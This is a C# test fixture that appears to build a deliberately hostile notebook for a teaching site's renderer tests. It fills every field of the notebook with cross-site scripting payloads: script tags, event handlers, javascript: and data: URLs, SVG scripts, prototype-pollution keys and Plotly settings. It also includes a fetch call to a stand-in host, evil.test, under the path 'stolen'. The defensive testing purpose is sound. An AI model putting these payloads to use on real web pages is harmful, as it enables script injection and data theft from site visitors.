using Teaching.Notebooks.Documents;

namespace Teaching.Site.Tests;

/// <summary>A notebook of somebody who wants their script to run in the page of whoever reads it, or at least to be told of it.</summary>
internal static class HostileNotebook
{
    /// <summary>Sets a flag on the page and asks a server: what no page may ever do.</summary>
    public const string Script = "(window.top||window).hacked=1;document.title='hacked';fetch('https://evil.test/stolen')";

    /// <summary>HTML that runs the script, or asks the server, each in its own way, where nothing stops it.</summary>
    public static readonly string[] Html =
    [
        $"<script>{Script}</script>",
        $"<img src=\"x:\" onerror=\"{Script}\">",
        $"<svg onload=\"{Script}\"></svg>",
        $"<svg><script>{Script}</script></svg>",
        $"<svg><foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x:\" onerror=\"{Script}\"></body></foreignObject></svg>",
        $"<iframe srcdoc=\"&lt;script&gt;{Script}&lt;/script&gt;\"></iframe>",
        $"<details open ontoggle=\"{Script}\"><summary>x</summary>y</details>",
        $"<iframe src=\"javascript:{Script}\"></iframe>",
        $"<input autofocus onfocus=\"{Script}\">",
        "<img src=\"https://evil.test/picture\">",
        "<link rel=\"stylesheet\" href=\"https://evil.test/style\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/refresh\">",
        "<style>body{background:url(https://evil.test/background)}</style>",
        "<video src=\"https://evil.test/video\" autoplay></video>",
        "<object data=\"https://evil.test/object\"></object>",
        "<base href=\"https://evil.test/base/\">",
        "<iframe src=\"https://evil.test/frame\"></iframe>",
        $"<a id=\"katex\" href=\"javascript:{Script}\">click</a><a id=\"Plotly\"></a><form id=\"teachingSearch\"></form>",
    ];

    private static readonly string Svg =
        $"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"60\" height=\"40\" onload=\"{Script}\"><script>{Script}</script>"
        + $"<foreignObject width=\"9\" height=\"9\"><img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.test/x\" onerror=\"{Script}\"/></foreignObject>"
        + $"<use xlink:href=\"https://evil.test/use#a\"/><image href=\"https://evil.test/image\" width=\"9\" height=\"9\"/><a href=\"javascript:{Script}\"><text y=\"20\">x</text></a>"
        + "<style>@import 'https://evil.test/import';</style></svg>";

    /// <summary>The notebook, with the script wherever a notebook holds text.</summary>
    public static Notebook Make()
    {
        string bad = string.Concat(Html);
        Notebook notebook = Notebook.Create();
        notebook.Metadata["title"] = bad;
        notebook.Metadata["kernelspec"] = new JsonMap { { "name", bad }, { "display_name", bad }, { "language", $"\"><script>{Script}</script>" } };
        notebook.Cells.Add(Cell.Markdown($"# Title </title><script>{Script}</script> $\\href{{javascript:{Script}}}{{x}}$\n\n{bad}\n\n## katex\n\n## Plotly\n\n## {bad}"));
        foreach (string html in Html) notebook.Cells.Add(Cell.Markdown($"{html}\n\ntext {html} text\n\n`{html}`\n\n| {html} |\n|---|\n| {html} |\n\n> {html}"));
        notebook.Cells.Add(Cell.Markdown(string.Join("\n\n", Addresses().Select(address => $"[a]({address}) ![b]({address}) <{address}> [c][r]\n\n[r]: {address}"))));
        notebook.Cells.Add(Cell.Markdown($"$\\includegraphics{{https://evil.test/tex}} \\htmlData{{onclick={Script}}}{{x}}$\n\n$$\n</div><script>{Script}</script>\n$$"));
        notebook.Cells.Add(Attached());
        Cell code = Cell.Code($"// </code></pre>{bad}\n#r \"{bad.Replace("\"", "'")}\"\nvar s = $\"{{x}}</span><script>{Script}</script>\";");
        code.Id = "\"><script>" + Script + "</script>";
        code.Metadata["tags"] = new JsonList([bad]);
        code.Outputs.AddRange(Outputs(bad));
        notebook.Cells.Add(code);
        notebook.Cells.Add(new Cell(CellKind.Raw, bad) { Metadata = new JsonMap { { "format", "text/html" } } });
        return notebook;
    }

    private static IEnumerable<string> Addresses() =>
    [
        $"javascript:{Script}", "JaVaScRiPt:window.hacked=1", "&#106;avascript:window.hacked=1", "vbscript:x", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
        "https://evil.test/picture.png", "//evil.test/picture.png", "\\\\evil.test\\picture.png", "file:///etc/hostname", "blob:x", "%6aavascript:window.hacked=1",
    ];

    private static Cell Attached()
    {
        Cell cell = Cell.Markdown("![a](attachment:a.svg) ![b](attachment:b.png) ![c](attachment:c)");
        cell.Attachments = new JsonMap
        {
            { "a.svg", new JsonMap { { "image/svg+xml", Svg } } },
            { "b.png", new JsonMap { { "image/png", $"\"><script>{Script}</script>" } } },
            { "c", new JsonMap { { $"image/png\"><script>{Script}</script>", "aaaa" } } },
        };
        return cell;
    }

    private static IEnumerable<Output> Outputs(string bad)
    {
        foreach (string html in Html) yield return new DisplayOutput(new JsonMap { { MimeBundle.Html, html } });
        yield return new DisplayOutput(new JsonMap { { MimeBundle.Html, $"<table><tbody><tr><td>{bad}</td></tr></tbody></table>" } });
        yield return new DisplayOutput(new JsonMap { { MimeBundle.Html, $"<table><tbody><tr><td onclick=\"{Script}\">1</td></tr></tbody></table>" } });
        yield return new DisplayOutput(new JsonMap { { MimeBundle.Svg, Svg }, { MimeBundle.PlainText, $"\" onerror=\"{Script}\" <script>{Script}</script>" } });
        yield return new DisplayOutput(new JsonMap { { "image/png", $"\" onerror=\"{Script}" } });
        yield return new DisplayOutput(new JsonMap { { "text/markdown", bad } });
        yield return new DisplayOutput(new JsonMap { { "text/latex", $"$\\href{{javascript:{Script}}}{{x}}</div>{bad}$" } });
        yield return new DisplayOutput(new JsonMap { { "application/javascript", Script } });
        yield return new DisplayOutput(new JsonMap { { $"x/\"><script>{Script}</script>", "1" } });
        yield return new StreamOutput("stdout", bad + "\u001b[31m</pre>");
        yield return new StreamOutput($"stderr\"><script>{Script}</script>", bad);
        yield return new ErrorOutput(bad, bad, [bad]);
        yield return Chart(bad);
    }

    /// <summary>A chart whose every text is markup, with a picture from a server, buttons that call things, and settings of its own.</summary>
    private static DisplayOutput Chart(string bad)
    {
        string link = $"<a href=\"javascript:{Script}\">click</a><img src=\"x:\" onerror=\"{Script}\"><b onclick=\"{Script}\">x</b>{bad}";
        JsonMap trace = new()
        {
            { "type", "scatter" }, { "x", new JsonList([1L, 2L]) }, { "y", new JsonList([1L, 2L]) }, { "name", link }, { "text", link }, { "mode", "lines+text" },
            { "hovertemplate", link }, { "customdata", new JsonList([link, link]) }, { "__proto__", new JsonMap { { "hacked", 1L } } },
        };
        JsonMap step(string name) => new() { { "label", name }, { "method", "animate" }, { "args", new JsonList([new JsonList(["0"])]) } };
        JsonMap layout = new()
        {
            { "width", 600L }, { "height", 400L }, { "title", new JsonMap { { "text", link } } }, { "__proto__", new JsonMap { { "hacked", 1L } } },
            { "annotations", new JsonList([new JsonMap { { "text", link }, { "x", 1L }, { "y", 1L }, { "hovertext", link }, { "captureevents", true } }]) },
            { "images", new JsonList([new JsonMap { { "source", "https://evil.test/layout" }, { "sizex", 1L }, { "sizey", 1L } }, new JsonMap { { "source", $"javascript:{Script}" } }]) },
            { "xaxis", new JsonMap { { "title", new JsonMap { { "text", link } } }, { "ticktext", new JsonList([link, link]) }, { "tickvals", new JsonList([1L, 2L]) } } },
            { "updatemenus", new JsonList([new JsonMap { { "buttons", new JsonList([new JsonMap { { "label", link }, { "method", "relayout" }, { "args", new JsonList(["title.text", link]) } }]) } }]) },
            { "sliders", new JsonList([new JsonMap { { "y", 0.1 }, { "currentvalue", new JsonMap { { "prefix", bad } } }, { "steps", new JsonList([step(bad), step(link)]) } }]) },
        };
        JsonMap chart = new()
        {
            { "data", new JsonList([trace]) }, { "layout", layout }, { "frames", new JsonList([new JsonMap { { "name", "0" }, { "data", new JsonList([trace]) } }]) },
            { "config", new JsonMap { { "plotlyServerURL", "https://evil.test" }, { "showSendToCloud", true }, { "modeBarButtonsToAdd", new JsonList([new JsonMap { { "click", Script } }]) } } },
        };
        return new DisplayOutput(new JsonMap { { MimeBundle.Plotly, chart }, { MimeBundle.Svg, Svg }, { MimeBundle.PlainText, bad } });
    }
}
